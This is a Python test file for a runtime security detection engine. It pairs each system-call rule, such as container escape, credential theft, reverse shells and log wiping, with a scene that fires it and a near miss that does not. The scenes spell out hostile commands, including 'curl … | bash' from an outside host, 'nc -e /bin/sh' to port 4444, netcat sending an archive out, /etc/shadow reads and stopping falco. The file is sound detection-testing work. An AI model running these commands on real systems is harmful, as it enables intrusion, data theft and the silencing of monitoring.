"""For each rule on system calls: what fires it, and the near miss that does not."""

from __future__ import annotations

from shipped_world import (
    IN_NO_LAYER,
    OUTSIDE,
    POD,
    Scene,
    World,
    calls,
    connects,
    execs,
    links,
    reads,
    runs,
    runs_below,
    writes,
)

from tiercel.demo.node import DROPPED
from tiercel.sources.scap.writer import OpenedFile

SH = ("/usr/bin/dash", "-c", "true")
PYTHON = ("/usr/bin/python3.11", "-c", "pass")
APP = ("/usr/bin/python3.11", "app.py")
CAT = ("/usr/bin/cat", "x")
MV = ("/usr/bin/mv", "x", "y")
LN = ("/usr/bin/ln", "-s")
TOOL = ("/opt/tool",)


MISNAMED = 1024  # FILE_MISNAMED, events/file.pxd


def opens_as(true: str, claimed: str, flags: int) -> Scene:
    """A file is opened, and what the kernel knows of it stands behind the event."""

    def scene(world: World) -> None:
        process = world.started(world.parent("host_shell"), *CAT)
        world.node.call(
            process,
            "openat",
            opened=OpenedFile(true, 819, flags=flags),
            fd=3,
            dirfd=-100,
            name=claimed,
            flags="O_RDONLY",
        )

    return scene


def terminal_opened(path: str, terminal: int) -> Scene:
    def scene(world: World) -> None:
        process = world.runtime()
        process.tty = terminal
        world.node.execute(process, path, exe=path.rpartition("/")[2])

    return scene


def reads_in_terminal(path: str) -> Scene:
    def scene(world: World) -> None:
        shell = world.node.fork(world.host_shell)
        shell.tty = 0x8800
        world.node.read(world.started(shell, *CAT), path, b"x", layer="")

    return scene


def detached(parent: str) -> Scene:
    """A program below the container's first process, which is `parent`."""

    def scene(world: World) -> None:
        world.node.execute(world.service, f"/usr/bin/{parent}", "infinity", exe=parent)
        world.started(world.service, "/usr/bin/id")

    return scene


def taken_from_network(number: int) -> Scene:
    """A connection becomes descriptor `number`."""

    def scene(world: World) -> None:
        process = world.started(world.parent("runtime"), "/opt/tool")
        line = world.node.connect(process, (POD, 50000), (OUTSIDE, 4444))
        world.node.call(process, "DUP2_X", res=number, oldfd=line, newfd=number)

    return scene


def netcat_fed_from(path: str) -> Scene:
    def scene(world: World) -> None:
        shell = world.below_service()
        number = world.node.open(shell, path)
        child = world.node.fork(shell)
        world.node.call(child, "DUP2_X", res=0, oldfd=number, newfd=0)
        world.node.execute(child, "/usr/bin/nc", OUTSIDE, "4444", exe="nc")

    return scene


def listens(where: str, program: str) -> Scene:
    def scene(world: World) -> None:
        process = world.started(world.parent(where), program, "-l", "-p", "4443")
        world.node.call(process, "SOCKET_X", fd=3, domain="AF_INET", type=1, proto=0)
        world.node.call(process, "LISTEN_X", res=0, fd=3, backlog=1)

    return scene


def traces(where: str, program: tuple[str, ...], asked: str) -> Scene:
    return calls(where, program, "PTRACE_X", res=0, addr=(0, 0), data=(0, 0), request=asked)


def on_volume(path: str) -> Scene:
    """A program that is in no layer of the image."""

    def scene(world: World) -> None:
        world.node.execute(world.node.fork(world.service), path, flags=IN_NO_LAYER)

    return scene


def uploads(path: str) -> Scene:
    """The service itself makes a file."""
    return lambda world: world.node.write(world.service, path, b"x")


def preloaded(library: str) -> Scene:
    def scene(world: World) -> None:
        child = world.node.fork(world.host_shell)
        child.env = [f"LD_PRELOAD={library}"]
        world.node.execute(child, "/opt/tool")

    return scene


# rule → (what fires it, what does not)
SCENES: dict[str, tuple[Scene, Scene]] = {
    # ---- reconnaissance
    "Network scanner started": (
        runs("below_service", "/usr/bin/nmap", "-sT", "10.0.0.0/24"),
        runs("host_shell", "/usr/bin/nc", "-v", "10.0.0.4", "80"),
    ),
    "Scan described on a command line": (
        runs("terminal", "/usr/bin/python3.11", "s.py", "10.0.0.4", "1", "1024", exe="python3"),
        runs("terminal", "/usr/bin/python3.11", "worker.py", "10.0.0.4", "6379", exe="python3"),
    ),
    "Connection refused to a program in a session": (
        connects("terminal", PYTHON, "10.0.0.4", 81, res=-111),
        connects("terminal", ("/usr/bin/curl", "http://10.0.0.4"), "10.0.0.4", 81, res=-111),
    ),
    "API server contacted from a container": (
        connects("below_service", TOOL, "10.3.0.1", 443),
        connects("below_service", TOOL, "10.3.0.9", 443),
    ),
    "Cloud metadata asked from a container": (
        connects("runtime", TOOL, "169.254.169.254", 80),
        connects("host_shell", TOOL, "169.254.169.254", 80),
    ),
    "Packet socket opened in a container": (
        calls("runtime", PYTHON, "SOCKET_X", fd=-1, domain="AF_PACKET", type=3, proto=768),
        calls("runtime", PYTHON, "SOCKET_X", fd=3, domain="AF_INET", type=3, proto=1),
    ),
    "Environment of another process read": (
        reads("below_service", CAT, "/proc/1/environ", layer=""),
        reads("below_service", CAT, "/proc/self/environ", layer=""),
    ),
    "Somebody looks around in a terminal": (
        runs("terminal", "/usr/bin/whoami"),
        runs("service", "/usr/bin/id"),
    ),
    "Network looked at from a service's shell": (
        runs("below_service", "/usr/bin/ss", "-tlnp"),
        runs("host_shell", "/usr/bin/ss", "-tlnp"),
    ),
    "Cluster client started in a container": (
        runs("below_service", "/usr/local/bin/kubectl", "get", "secrets"),
        runs("host_shell", "/usr/local/bin/kubectl", "get", "secrets"),
    ),
    # ---- weaponization
    "Compiler runs in a container in service": (
        runs("below_service", "/usr/bin/gcc", "-o", "x", "x.c"),
        runs_below("terminal", ("/usr/bin/make", "all"), "/usr/bin/gcc", "-o", "x", "x.c"),
    ),
    "Image built or pushed from a container": (
        runs("below_service", "/usr/bin/buildah", "push", "registry.example.com/x"),
        runs("below_service", "/usr/bin/buildah", "images"),
    ),
    "Package script fetches or starts something": (
        lambda w: w.started(
            w.started(w.started(w.host_shell, "/usr/bin/npm", "install"), "/usr/bin/dash", "-c", "x"),
            "/usr/bin/curl", OUTSIDE,
        ),
        runs_below("host_shell", ("/usr/bin/make", "deps"), "/usr/bin/curl", OUTSIDE),
    ),
    "Package signing or source changed": (
        writes("below_service", ("/usr/bin/tee", "x"), "/etc/apt/sources.list.d/x.list"),
        writes("host_shell", ("/usr/bin/apt-get", "update"), "/etc/apt/sources.list.d/x.list"),
    ),
    # ---- delivery
    "Download stored in a container": (
        runs("below_service", "/usr/bin/curl", "-sLo", "/tmp/x", f"http://{OUTSIDE}/x"),
        runs("below_service", "/usr/bin/curl", "-s", "-o", "/dev/null", "http://127.0.0.1:8080/health"),
    ),
    "Download handed to an interpreter": (
        runs("host_shell", "/usr/bin/bash", "-c", f"curl -s http://{OUTSIDE}/i.sh | bash"),
        runs("host_shell", "/usr/bin/bash", "-c", "curl -s http://127.0.0.1/health | grep ok"),
    ),
    "Files copied into a container by exec": (
        execs("/usr/bin/tar", "-xmf", "-", "-C", "/tmp"),
        execs("/usr/bin/tar", "-cf", "-", "/tmp"),
    ),
    "Remote copy into a container": (
        runs("below_service", "/usr/bin/scp", "root@10.0.0.7:/srv/x", "/tmp/x"),
        runs("below_service", "/usr/bin/scp", "/srv/x", "root@10.0.0.7:/tmp/x"),
    ),
    # ---- exploitation
    "Service starts a shell": (
        runs("service", "/usr/bin/dash", "-c", "getent hosts x; id", exe="/bin/sh"),
        runs("service", "/usr/bin/dash", "-c", "getent hosts x", exe="/bin/sh"),
    ),
    "Line of a language run from a service's shell": (
        runs("below_service", "/usr/bin/python3.11", "-c", "import os", exe="python3"),
        runs("terminal", "/usr/bin/python3.11", "-c", "import os", exe="python3"),
    ),
    "Attack sent from a container": (
        runs("terminal", "/usr/bin/curl", "-s", "http://10.0.0.4/lookup?name=x%3Bid"),
        runs("terminal", "/usr/bin/curl", "-s", "http://10.0.0.4/lookup?name=x"),
    ),
    "Server on a host starts a shell": (
        runs("host_server", "/usr/bin/dash", "-c", "id"),
        runs("host_shell", "/usr/bin/dash", "-c", "id"),
    ),
    "Terminal opened in a container": (
        terminal_opened("/usr/bin/bash", 0x8800),
        terminal_opened("/usr/bin/bash", 0),
    ),
    "Interactive shell without a terminal": (
        runs("runtime", "/usr/bin/bash", "-i"),
        runs("terminal", "/usr/bin/bash", "-i"),
    ),
    "Detached program in an idle container": (detached("sleep"), detached("supervisord")),
    "Oversized argument": (
        runs("terminal", "/usr/bin/passwd", "A" * 4080),
        runs("terminal", "/usr/bin/python3.11", "A" * 4080, exe="python3"),
    ),
    "Program runs without a file": (
        runs("host_shell", "memfd:x", flags="EXE_FROM_MEMFD"),
        runs("host_shell", "/usr/bin/true"),
    ),
    "Program under a service's name": (
        runs("below_service", "/tmp/nginx", flags=DROPPED),
        runs("below_service", "/usr/sbin/nginx"),
    ),
    "Program run from shared memory": (
        runs("host_shell", "/dev/shm/x"),
        runs("host_shell", "/srv/x"),
    ),
    "Program or script run from a temporary directory": (
        runs("terminal", "/usr/bin/dash", "/tmp/s", exe="/tmp/s"),
        runs("terminal", "/usr/bin/dash", "/srv/s", exe="/srv/s"),
    ),
    "Hidden program runs": (
        runs("host_shell", "/opt/metrics/.agent"),
        runs("host_shell", "/root/.local/bin/tool"),
    ),
    "Process taken over by ptrace": (
        traces("host_shell", TOOL, "PTRACE_ATTACH"),
        traces("host_shell", ("/usr/bin/gdb",), "PTRACE_ATTACH"),
    ),
    "Program in a container shields itself from debuggers": (
        traces("runtime", TOOL, "PTRACE_TRACEME"),
        traces("host_shell", TOOL, "PTRACE_TRACEME"),
    ),
    "Root given up with a way back": (
        calls("runtime", TOOL, "SETRESUID_X", res=0, ruid=1000, euid=1000, suid=0),
        calls("runtime", TOOL, "SETRESUID_X", res=0, ruid=1000, euid=1000, suid=1000),
    ),
    "Namespaces changed from inside a container": (
        calls("runtime", TOOL, "UNSHARE_X", res=-1, flags="CLONE_NEWNS"),
        calls("host_shell", TOOL, "UNSHARE_X", res=0, flags="CLONE_NEWNS"),
    ),
    "File system of another namespace entered": (
        runs("host_shell", "/usr/bin/nsenter", "-t", "1", "-m", "--", "sh"),
        runs("host_shell", "/usr/bin/nsenter", "-t", "1", "-n", "--", "ip", "a"),
    ),
    "Escape hook of the kernel written": (
        writes("below_service", SH, "/sys/fs/cgroup/x/release_agent", layer=""),
        writes("below_service", SH, "/sys/fs/cgroup/x/cgroup.procs", layer=""),
    ),
    "Disk mounted in a container": (
        runs("below_service", "/usr/bin/mount", "/dev/sda1", "/mnt"),
        runs("host_shell", "/usr/bin/mount", "/dev/sda1", "/mnt"),
    ),
    "Raw disk or memory opened in a container": (
        reads("below_service", ("/usr/bin/dd", "if=/dev/sda"), "/dev/sda", layer=""),
        reads("below_service", ("/usr/bin/dd", "if=/dev/zero"), "/dev/zero", layer=""),
    ),
    "Runtime socket used from a container": (
        calls("runtime", TOOL, "CONNECT_X", res=0, tuple=(1, 2, "/run/containerd/containerd.sock"), fd=3),
        calls("runtime", TOOL, "CONNECT_X", res=0, tuple=(1, 2, "/run/app/app.sock"), fd=3),
    ),
    "Host reached through a process's root": (
        reads("below_service", CAT, "/proc/1/root/etc/hostname", layer=""),
        reads("below_service", CAT, "/proc/1/status", layer=""),
    ),
    "Link out of the container": (
        links("below_service", LN, "/proc/1/root/etc/x", "/srv/x"),
        links("below_service", LN, "/srv/a", "/srv/b"),
    ),
    "Symlink over a sensitive file below a service": (
        links("below_service", LN, "/etc/shadow", "/tmp/s"),
        links("terminal", LN, "/etc/shadow", "/tmp/s"),
    ),
    "Memory of another process written": (
        writes("host_shell", TOOL, "/proc/2010/mem", layer=""),
        writes("host_shell", ("/usr/bin/gdb",), "/proc/2010/mem", layer=""),
    ),
    "Program on a volume runs": (
        on_volume("/shared/job"),
        on_volume("/usr/share/job"),
    ),
    "Root directory changed inside a container": (
        calls("runtime", TOOL, "CHROOT_X", res=0, path="/mnt"),
        calls("runtime", ("/usr/sbin/sshd",), "CHROOT_X", res=0, path="/run/sshd"),
    ),
    # ---- installation
    "Package management in a container": (
        runs("below_service", "/usr/bin/apt-get", "install", "nmap"),
        runs_below("terminal", ("/usr/bin/apt-cache", "policy"), "/usr/bin/dpkg", "--print-architecture"),
    ),
    "Program that is not in the image runs": (
        runs("below_service", "/srv/tool", flags=DROPPED),
        runs("below_service", "/srv/tool"),
    ),
    "Program started through the loader": (
        runs("below_service", "/lib64/ld-linux-x86-64.so.2", "/tmp/x"),
        runs("below_service", "/lib64/ld-linux-x86-64.so.2", "--verify", "/usr/bin/id"),
    ),
    "Script among the programs runs in a session": (
        runs("below_service", "/usr/bin/dash", "/usr/bin/scantool", exe="/usr/bin/scantool"),
        execs("/usr/bin/dash", "/usr/local/bin/health.sh", exe="/usr/local/bin/health.sh"),
    ),
    "Files put in place from a service's shell": (
        runs("below_service", "/usr/bin/cp", "/tmp/a", "/srv/a"),
        runs("terminal", "/usr/bin/cp", "/tmp/a", "/srv/a"),
    ),
    "Program written to a shared place by a container": (
        writes("below_service", ("/usr/bin/cp", "a", "/shared/a"), "/shared/a", layer="", mode=0o755),
        writes("below_service", ("/usr/bin/cp", "a", "/shared/a"), "/shared/a", layer="", mode=0o644),
    ),
    "Schedule or account of a host written from a container": (
        writes("below_service", SH, "/host/etc/cron.d/x", layer=""),
        writes("below_service", SH, "/etc/cron.d/x"),
    ),
    "Schedule or account written by a foreign program": (
        writes("host_shell", ("/opt/.agent",), "/etc/cron.d/x", layer=""),
        writes("host_shell", ("/usr/bin/crontab", "-e"), "/var/spool/cron/root", layer=""),
    ),
    "Library forced into programs": (
        preloaded("/tmp/x.so"),
        preloaded("/usr/lib/libjemalloc.so.2"),
    ),
    "Script written by a service": (
        uploads("/srv/uploads/x.php"),
        uploads("/srv/uploads/x.png"),
    ),
    "Cron job runs from an unusual place": (
        runs_below("cron", ("/usr/bin/dash", "-c", "x"), "/tmp/x"),
        runs_below("cron", ("/usr/bin/dash", "-c", "x"), "/usr/bin/certbot", "renew"),
    ),
    "Set-user-id bit set": (
        calls("host_shell", ("/usr/bin/chmod", "u+s", "x"), "CHMOD_X", res=0, filename="/srv/x", mode=0o4755),
        calls("host_shell", ("/usr/bin/chmod", "755", "x"), "CHMOD_X", res=0, filename="/srv/x", mode=0o755),
    ),
    "Program of the host written": (
        writes("host_shell", ("/usr/bin/cp", "a", "/usr/bin/a"), "/usr/bin/a", layer=""),
        writes("host_shell", ("/usr/bin/dpkg", "-i", "a"), "/usr/bin/a", layer=""),
    ),
    "Shell start-up file changed by a program": (
        writes("host_shell", ("/usr/bin/python3.11", "x"), "/root/.bashrc", layer=""),
        writes("host_shell", ("/usr/bin/vim", "x"), "/root/.bashrc", layer=""),
    ),
    "Payload decoded in a container": (
        runs("below_service", "/usr/bin/base64", "-d"),
        runs("below_service", "/usr/bin/base64", "-w0"),
    ),
    "Account made in a container": (
        runs("below_service", "/usr/sbin/useradd", "eve"),
        runs("below_service", "/usr/sbin/useradd", "--help"),
    ),
    "Kernel module or eBPF program loaded from a container": (
        calls("runtime", TOOL, "FINIT_MODULE_X", res=-1, fd=3, uargs="", flags=0),
        calls("host_shell", TOOL, "FINIT_MODULE_X", res=0, fd=3, uargs="", flags=0),
    ),
    # ---- command and control
    "Foreign program connects out": (
        connects("below_service", ("/srv/x",), OUTSIDE, 8443, flags=DROPPED),
        connects("below_service", ("/srv/x",), OUTSIDE, 8443),
    ),
    "Standard input taken from the network": (taken_from_network(0), taken_from_network(1)),
    "Shell connects to another machine": (
        connects("below_service", ("/usr/bin/bash", "-c", "x"), OUTSIDE, 4444),
        connects("below_service", ("/usr/bin/bash", "-c", "x"), "127.0.0.1", 4444),
    ),
    "Netcat talks in a container": (
        listens("below_service", "/usr/bin/nc"),
        listens("host_shell", "/usr/bin/nc"),
    ),
    "Netcat starts a program": (
        runs("host_shell", "/usr/bin/nc", "-e", "/bin/sh", OUTSIDE, "4444"),
        runs("host_shell", "/usr/bin/nc", "-vz", OUTSIDE, "443"),
    ),
    "Netcat on a host reaches another machine": (
        connects("host_shell", ("/usr/bin/nc", OUTSIDE, "4444"), OUTSIDE, 4444),
        connects("host_shell", ("/usr/bin/nc", "127.0.0.1", "80"), "127.0.0.1", 80),
    ),
    "SSH to a host outside the allowed group": (
        connects("host_shell", ("/usr/bin/ssh", "root@10.9.9.9"), "10.9.9.9", 22),
        connects("host_shell", ("/usr/bin/ssh", "root@localhost"), "127.0.0.1", 22),
    ),
    "Web client started from a service's shell": (
        runs("below_service", "/usr/bin/curl", "-s", f"http://{OUTSIDE}/tasks"),
        runs("below_service", "/usr/bin/curl", "-s", "http://localhost:8080/health"),
    ),
    "Tunnel opened": (
        runs("below_service", "/usr/bin/ssh", "-R", "2222:127.0.0.1:22", OUTSIDE),
        runs("below_service", "/usr/bin/ssh", OUTSIDE, "uptime"),
    ),
    # ---- actions on objectives
    "Credential file read in a container": (
        reads("below_service", CAT, "/etc/shadow"),
        reads("below_service", ("/usr/bin/su", "-"), "/etc/shadow"),
    ),
    "Credential file read in a session on a host": (
        reads_in_terminal("/etc/shadow"),
        reads("host_shell", CAT, "/etc/shadow", layer=""),
    ),
    "Credential file read under a borrowed name": (
        reads("host_shell", ("/opt/x/sshd",), "/etc/shadow", layer=""),
        reads("host_shell", ("/usr/sbin/sshd",), "/etc/shadow", layer=""),
    ),
    "Credential file reached by a detour": (
        reads("host_shell", PYTHON, "/srv/../etc/shadow", layer=""),
        reads("host_shell", PYTHON, "/srv/../etc/hostname", layer=""),
    ),
    "Credential file opened by a file handle": (
        calls("below_service", CAT, "OPEN_BY_HANDLE_AT_X", fd=5, mountfd=4, flags="O_RDONLY", path="/etc/shadow"),
        calls("below_service", CAT, "OPEN_BY_HANDLE_AT_X", fd=5, mountfd=4, flags="O_RDONLY", path="/etc/hostname"),
    ),
    "File opened under a false name": (
        opens_as("/etc/shadow", "/etc/motd", MISNAMED),
        opens_as("/etc/shadow", "/etc/motd", 0),
    ),
    "Symlink over a sensitive file": (
        links("terminal", LN, "/etc/shadow", "/tmp/s"),
        links("terminal", LN, "/etc/hostname", "/tmp/s"),
    ),
    "Hard link over a sensitive file": (
        calls("below_service", ("/usr/bin/ln",), "LINK_2_X", res=0, oldpath="/etc/shadow", newpath="/tmp/s"),
        calls("below_service", ("/usr/bin/ln",), "LINK_2_X", res=-1, oldpath="/etc/shadow", newpath="/tmp/s"),
    ),
    "File of the image read under another name": (
        reads("below_service", CAT, "/tmp/x", layer="FD_LOWER_LAYER"),
        reads("below_service", CAT, "/tmp/x", layer="FD_UPPER_LAYER"),
    ),
    "Keys or passwords looked for": (
        runs("terminal", "/usr/bin/find", "/", "-name", "id_rsa"),
        runs("terminal", "/usr/bin/find", "/", "-name", "page.html"),
    ),
    "Key or token read by a tool": (
        reads("below_service", CAT, "/run/secrets/kubernetes.io/serviceaccount/token", layer=""),
        reads("below_service", APP, "/run/secrets/kubernetes.io/serviceaccount/token", layer=""),
    ),
    "Archive of secrets made": (
        runs("below_service", "/usr/bin/tar", "czf", "/tmp/x.tgz", "/etc", "/root"),
        runs("below_service", "/usr/bin/tar", "xzf", "/tmp/x.tgz", "/etc"),
    ),
    "File sent out of a container": (netcat_fed_from("/tmp/x.tgz"), netcat_fed_from("/dev/null")),
    "Foreign program sends data out": (
        connects("below_service", ("/srv/x", OUTSIDE, "/srv/customers.csv"), OUTSIDE, 443, flags=DROPPED),
        connects("below_service", ("/srv/x", OUTSIDE, "443"), OUTSIDE, 443, flags=DROPPED),
    ),
    "Database dumped from a session": (
        runs("terminal", "/usr/bin/pg_dump", "shop"),
        execs("/usr/bin/pg_dump", "shop"),
    ),
    "Coins mined": (
        runs("host_shell", "/opt/x", "-o", "stratum+tcp://pool:3333"),
        runs("host_shell", "/opt/x", "-o", "tcp://queue:3333"),
    ),
    "Data destroyed": (
        runs("host_shell", "/usr/bin/shred", "-u", "/srv/x"),
        runs("host_shell", "/usr/bin/rm", "-rf", "/srv/x"),
    ),
    "Programs of a container moved or renamed": (
        calls("below_service", MV, "RENAME_X", res=0, oldpath="/usr/bin/curl", newpath="/usr/bin/c"),
        calls("below_service", MV, "RENAME_X", res=0, oldpath="/srv/a", newpath="/srv/b"),
    ),
    "Shell history removed": (
        calls("host_shell", ("/usr/bin/rm",), "UNLINK_2_X", res=0, path="/root/.bash_history"),
        calls("host_shell", ("/usr/bin/rm",), "UNLINK_2_X", res=0, path="/srv/history"),
    ),
    "Log emptied by a tool": (
        runs("host_shell", "/usr/bin/truncate", "-s", "0", "/var/log/auth.log"),
        runs("host_shell", "/usr/bin/truncate", "-s", "8M", "/srv/disk.img"),
    ),
    "Watchman silenced": (
        runs("host_shell", "/usr/bin/systemctl", "stop", "falco"),
        runs("host_shell", "/usr/bin/systemctl", "status", "falco"),
    ),
}  # fmt: skip
